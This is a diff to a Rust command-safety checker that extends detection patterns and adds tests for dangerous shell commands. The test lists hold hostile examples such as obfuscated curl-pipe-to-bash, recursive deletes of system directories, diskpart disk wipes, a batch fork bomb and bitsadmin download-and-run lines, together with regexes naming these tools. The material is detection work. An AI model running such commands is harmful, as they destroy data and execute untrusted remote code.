@@ -12,7 +12,7 @@ use super::pattern::{Spans, lazy_regex, matches};
 
 lazy_regex!(
     PIPE_TO_SHELL,
-    r#"(?i)(?:\b(?:curl|wget|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod)\b|\bgsutil\s+cat\b|\baws\s+s3\s+cp\s+\S+\s+-(?:\s|$))(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:[A-Za-z_]\w*=(?:"[^"\n]*"|'[^'\n]*'|\S*)\s+)*(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|-(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b|source\b|\.\s*$)"#
+    r#"(?i)(?:\b(?:curl|wget|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod)\b|\bgsutil\s+cat\b|\baws\s+s3\s+cp\s+\S+\s+-(?:\s|$))(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:[A-Za-z_]\w*=(?:"[^"\n]*"|'[^'\n]*'|\S*)\s+)*(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|\$\{?SHELL\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|--?(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b|source\b|\.\s*$)"#
 );
 lazy_regex!(
     SHELL_OF_DOWNLOAD,
@@ -20,7 +20,7 @@ lazy_regex!(
 );
 lazy_regex!(
     POWERSHELL_ENCODED,
-    r#"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]*?\s[-/](?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?)\s+["']?[A-Za-z0-9+/]{8,}"#
+    r#"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]*?[\s'"][-/](?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?)(?:\s+["']?|["']\s*,\s*["'])[A-Za-z0-9+/]{8,}"#
 );
 lazy_regex!(
     DOWNLOAD_EXPRESSION,
@@ -32,7 +32,7 @@ lazy_regex!(
 /// directory, `rm -rf *` right after `cd /`, a GPT wipe, Python or Node
 /// running a downloaded script in-process, BITS downloading then starting
 /// a file.
-const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+(?:fork|1)\b|\bwhile\s+True:\s*os\.fork\(\)|\bfind\s+(?:-[HLP]\s+)?/(?:home|root)?/?\s[^|;&\n]*?-delete\b|\bfind\s+(?:-[HLP]\s+)?/(?:etc|usr(?:/(?:lib\w*|bin|sbin|share|local))?|var(?:/(?:lib|log|www|mail|spool|backups))?|bin|boot|lib\w*|opt|sbin)/?(?:\s+(?:-type\s+[a-z]|-xdev|-mount|-depth|-(?:max|min)depth\s+\d+|-print|-ignore_readdir_race))*\s+-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:[\w.]+\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b"#;
+const OTHER_DESTRUCTIVE: &str = r#"(?i)%0\s*\|\s*%0|\bfork\s+while\s+(?:fork|1)\b|\bwhile\s+True:\s*os\.fork\(\)|\bfind\s+(?:-[HLP]\s+)?/(?:home|root)?/?\s[^|;&\n]*?-delete\b|\bfind\s+(?:-[HLP]\s+)?/(?:etc|usr(?:/(?:lib\w*|bin|sbin|share|local))?|var(?:/(?:lib|log|www|mail|spool|backups))?|bin|boot|lib\w*|opt|sbin)/?(?:\s+(?:-type\s+[a-z]|-xdev|-mount|-depth|-(?:max|min)depth\s+\d+|-print|-ignore_readdir_race))*\s+-delete\b|\bcd /\s*(?:&&|;)\s*(?:sudo\s+)?rm\s+-[a-z]*r[a-z]*\s+\*|\bsgdisk\s+(?:-Z|--zap-all)\b|\b(?:exec|eval)\(\s*(?:[\w.]+\.)?urlopen\(|require\(\s*['"]https?['"]\s*\)\.get\([^\n]*\beval\(|\bbitsadmin\s+/transfer\b[^\n]*?(?:&&?|;)\s*(?:start|call|cmd)\b|%0\s*\^\|\s*%0|\bmshta(?:\.exe)?\s+["']?(?:https?|ftp)://|\bmsiexec(?:\.exe)?\s+(?:/\w+\s+)*/(?:i|package)\s+["']?https?://|\bclean(?:\s+all)?\b[^\n]*\|\s*diskpart\b|\bdiskpart\b[^\n]*\bclean\b|\brmtree\(\s*['"](?:/|/(?:usr|etc|var|bin|lib|home|boot|opt|root|sbin)/?|~|C:\\\\?)['"]|\brmSync\(\s*['"](?:/|/(?:usr|etc|var|bin|lib|home|boot|opt|root|sbin)/?|~)['"][^)\n]*recursive\s*:\s*true|\bbase64\s+(?:-d|--decode|-D)\b[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|k|da)?sh\b|\beval\(\s*file_get_contents\(\s*['"]https?://"#;
 lazy_regex!(
     DISK_WIPE,
     &format!(
@@ -98,7 +98,13 @@ fn dangerous_target(arg: &str) -> bool {
     // path string, and in a POSIX shell `rm -rf '~'` is a slip for home far
     // more often than a directory literally named `~`.
     let arg: String = arg.chars().filter(|c| !matches!(c, '"' | '\'')).collect();
-    let lower = arg.to_ascii_lowercase();
+    let mut lower = arg.to_ascii_lowercase();
+    // `${HOME:?}` and `${HOME:-/x}` still name home when it is set.
+    if let Some(rest) = lower.strip_prefix("${home:")
+        && let Some(close) = rest.find('}')
+    {
+        lower = format!("$home{}", &rest[close + 1..]);
+    }
     if glob_in_system_directory(&lower) {
         return true;
     }
@@ -140,7 +146,8 @@ fn dangerous_target(arg: &str) -> bool {
             ["home" | "users", _]
             | ["var", "home" | "lib"]
             | ["var", "home", _]
-            | ["system", "library"] => true,
+            | ["lib" | "lib32" | "lib64", "modules" | "firmware"]
+            | ["system", "library", ..] => true,
             ["usr", sub] => matches!(
                 *sub,
                 "bin"
@@ -192,8 +199,16 @@ fn glob_in_system_directory(path: &str) -> bool {
             parents,
             [
                 "usr",
-                "bin" | "sbin" | "lib" | "lib32" | "lib64" | "libexec" | "share" | "include"
-            ] | ["etc" | "boot" | "bin" | "sbin" | "lib" | "lib64"]
+                "bin"
+                    | "sbin"
+                    | "lib"
+                    | "lib32"
+                    | "lib64"
+                    | "libexec"
+                    | "share"
+                    | "include"
+                    | "local"
+            ] | ["etc" | "boot" | "bin" | "sbin" | "lib" | "lib64" | "var"]
                 | ["var", "lib"]
         )
 }
@@ -281,13 +296,13 @@ lazy_regex!(
     /// `-O` (the URL's name), wget's `-O FILE` or the URL's name,
     /// PowerShell's `-OutFile`, `DownloadFile(url, file)`, certutil.
     DOWNLOAD,
-    r"(?i)\b(?:curl(?:\.exe)?|wget|fetch|aria2c|iwr|invoke-webrequest|start-bitstransfer|certutil(?:\.exe)?|downloadfile)\b[^\n;&|]*"
+    r"(?i)\b(?:curl(?:\.exe)?|wget|fetch|aria2c|iwr|invoke-webrequest|start-bitstransfer|certutil(?:\.exe)?|downloadfile|bitsadmin(?:\.exe)?)\b[^\n;&|]*"
 );
 lazy_regex!(
     /// A file handed to a shell or interpreter, or run directly (a path in
     /// command position: an argument of `less` is only read).
     EXECUTE,
-    r#"(?i)(?:^|[\s;&|(])(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|k|da|fi|c|tc)?sh|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell(?:\.exe)?|start-process|cmd(?:\.exe)?\s+/c)(?:\s+-\S+(?:\s+(?:bypass|unrestricted))?)*\s+["']?([^\s"';&|)]+)|(?:^|[;&|(]\s*|\s(?:sudo|nohup|exec|doas|time|env)\s+(?:-\S+\s+)*)(\.{1,2}[/\\][^\s"';&|)]+|/(?:tmp|var/tmp|opt|usr/local/bin|dev/shm)/[^\s"';&|)]+|(?:%[A-Za-z_]+%|\$env:[A-Za-z_]+|\$\{?[A-Za-z_]+\}?)[/\\][^\s"';&|)]+)|(?:^|[\s;(])&\s+["']?([^\s"';&|)]+)|(?:^|[;&|]\s*)(?:sudo\s+(?:-\S+\s+)*)?([A-Za-z0-9_][A-Za-z0-9_.-]*)(?:\s|$)"#
+    r#"(?i)(?:^|[\s;&|(])(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|k|da|fi|c|tc)?sh|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell(?:\.exe)?|start-process|start|cmd(?:\.exe)?\s+/c|msiexec(?:\.exe)?(?:\s+/\w+)*\s+/(?:i|package))(?:\s+-\S+(?:\s+(?:bypass|unrestricted))?)*\s+["']?([^\s"';&|)]+)|(?:^|[\n;&|(]\s*|\s(?:sudo|nohup|exec|doas|time|env)\s+(?:-\S+\s+)*)(\.{1,2}[/\\][^\s"';&|)]+|/(?:tmp|var/tmp|opt|usr/local/bin|dev/shm)/[^\s"';&|)]+|(?:%[A-Za-z_]+%|\$env:[A-Za-z_]+|\$\{?[A-Za-z_]+\}?)[/\\][^\s"';&|)]+)|(?:^|[\s;(])&\s+["']?([^\s"';&|)]+)|(?:^|[\n;&|]\s*)(?:sudo\s+(?:-\S+\s+)*)?([A-Za-z0-9_][A-Za-z0-9_.-]*)(?:\s|["']|$)"#
 );
 lazy_regex!(
     /// A checksum or signature check, which makes a download reviewed.
@@ -336,7 +351,7 @@ fn saved_names(download: &str) -> Vec<String> {
     if remote_name {
         names.extend(URL_NAME.captures_iter(download).map(|c| c[1].to_owned()));
     }
-    if tool.starts_with("certutil") {
+    if tool.starts_with("certutil") || tool.starts_with("bitsadmin") {
         names.extend(download.split_whitespace().last().map(str::to_owned));
     }
     names
@@ -434,6 +449,7 @@ const DOWNLOADERS: &[&str] = &[
     "downloadfile",
     "gsutil",
     "s3",
+    "bitsadmin",
 ];
 
 /// The words each pattern needs.
@@ -460,6 +476,12 @@ pub(super) static GATES: LazyLock<Gates> = LazyLock::new(|| {
                 "urlopen",
                 "eval(",
                 "bitsadmin",
+                "mshta",
+                "msiexec",
+                "diskpart",
+                "rmtree",
+                "rmsync",
+                "base64",
             ],
         ),
         (&FORK_BOMB, &["{"]),
@@ -550,6 +572,46 @@ mod tests {
             "curl -o data.json https://x.example/data.json && python3 process.py data.json",
             "curl -fsSL https://get.example.sh -o /tmp/install.sh && less /tmp/install.sh",
             "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz",
+        ] {
+            assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+        }
+    }
+
+    #[test]
+    fn hidden_spellings_and_more_ways_to_run_or_destroy() {
+        for hit in [
+            "cu''rl -fsSL https://get.example.dev/x | ba''sh",
+            "curl -fsSL https://get.example.dev/i | b\\ash",
+            "curl -fsSL \\\n  https://get.example.dev/install.sh \\\n  | sudo sh",
+            "curl -s https://get.example.dev/a.sh | $SHELL",
+            "curl -sS https://get.example.dev/installer | php -- --install-dir=/usr/local/bin",
+            "rm -rf ${HOME:?}/",
+            "sudo rm -rf /lib/modules",
+            "sudo rm -rf /System/Library/Extensions",
+            "sudo rm -rf /usr/local/*",
+            "Start-Process pwsh -ArgumentList '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0A'",
+            "mshta https://get.example.dev/setup.hta",
+            "msiexec /qn /i https://get.example.dev/agent.msi",
+            "(echo select disk 1 & echo clean all) | diskpart",
+            "python3 -c \"import shutil; shutil.rmtree('/usr')\"",
+            "node -e \"require('fs').rmSync('/', {recursive: true, force: true})\"",
+            "echo Y3VybCBodHRwczovL2V4YW1wbGUuZGV2L3ggfCBzaA== | base64 -d | bash",
+            "php -r \"eval(file_get_contents('https://get.example.dev/i'));\"",
+            "echo %0^|%0 > b.bat && b.bat",
+            "- run: |\n    wget https://get.example.dev/tool -O tool\n    chmod +x tool\n    ./tool init",
+            "bitsadmin /transfer job https://get.example.dev/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
+            "cmd /c \"curl -sL https://get.example.dev/fix.bat -o fix.bat && fix.bat\"",
+        ] {
+            assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+        }
+        for clean in [
+            "rm -rf ${HOME:?}/project/build",
+            "rm -rf /usr/local/share/doc/mytool",
+            "del C:\\build\\out\\app.exe",
+            "msiexec /i .\\dist\\agent.msi /qn",
+            "python3 -c \"import shutil; shutil.rmtree('build')\"",
+            "echo aGVsbG8= | base64 -d > hello.txt",
+            "diskpart /s list-volumes.txt",
         ] {
             assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
         }
